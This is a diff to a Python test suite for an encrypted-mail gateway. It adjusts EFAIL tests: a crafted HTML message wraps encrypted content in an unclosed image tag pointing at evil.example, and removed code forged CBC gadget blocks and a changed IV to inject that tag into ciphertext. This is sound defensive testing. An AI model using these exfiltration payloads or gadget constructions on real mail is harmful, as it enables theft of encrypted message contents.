@@ -1,7 +1,6 @@
 #!/usr/bin/env python3
 """Damaged, tampered and oversized mail: never text that nobody vouches for, never a difference that an outsider could use, never a message
 that comes back for ever; ADMIN hears of it once."""
-import email
 import os
 import re
 import sys
@@ -61,35 +60,13 @@ def indistinguishable(tap, g, out):
 
 
 def gadgets(tap, g, out):
-    """EFAIL: exfiltration by parts around the cipher text, and CBC gadgets."""
+    """EFAIL: exfiltration by parts around the cipher text, and flipped bits (gadgets: incoming-efail.t)."""
     part = out.encrypt(text(SECRET), ONE).split(b"MIME-Version: 1.0\n", 1)[1]
     html = b"MIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=q\n\n--q\nContent-Type: text/html\n\n<img src=\"http://evil.example/\n--q\n" \
         + part + b"\n--q\nContent-Type: text/html\n\n\">\n--q--\n"
     code, output, got, _ = receive(g, fields() + html)
     tap.ok(code == 0 and got and got[0].encryption == "none" and b"secret" not in got[0].octets,
            "CMS between HTML parts is not decrypted", output)
-    known = b"Content-Type: text/plain; charset=us-ascii\r\n\r\n"
-    der = gateway.openssl("cms", "-encrypt", "-binary", "-aes-256-cbc", "-outform", "DER", "-recip", g.pki.path(ONE + ".crt"),
-                          input=known + SECRET.replace("\n", "\r\n").encode() * 3)
-    cipher = der.index(bytes.fromhex("60864801650304012a"))
-    iv = cipher + 11
-    body = element(der, element(der, cipher)[1] + 18 if der[cipher + 9] != 4 else iv + 16)[0]
-
-    def gadget(wanted):
-        """A block pair whose second half decrypts to `wanted`; the first half comes out random."""
-        before, block = der[iv:iv + 16], der[body:body + 16]
-        return bytes(a ^ b ^ c for a, b, c in zip(before, known[:16], wanted)) + block
-
-    gadgets_made = gadget(b"<img src=http:/ ") + gadget(b"/evil.example/  ")
-    tampered = der[:body + 96] + gadgets_made + der[body + 96 + len(gadgets_made):]
-    code, output, got, _ = receive(g, fields() + wrap(tampered))
-    shown = got and email.message_from_bytes(got[0].octets).get_payload(decode=True)
-    tap.ok(code == 0 and got and got[0].status == ("not-integrity-protected", "none") and b"<img src=http:/ " in shown,
-           "a CBC gadget in the middle is marked as not integrity-protected", f"{output} {got and got[0].octets[:900]}")
-    first = gadget(b"Content-Type: TE")[:16]
-    prefixed = der[:iv] + first + der[iv + 16:]
-    code, output, got, _ = receive(g, fields() + wrap(prefixed))
-    tap.ok(code == 0 and got and got[0].encryption in ("not-integrity-protected", "undecryptable"), "a changed IV is marked", output)
     signed = out.sign(text(SECRET), EYE)
     cut = der_of(out.encrypt(signed, ONE))
     flipped = bytearray(cut)
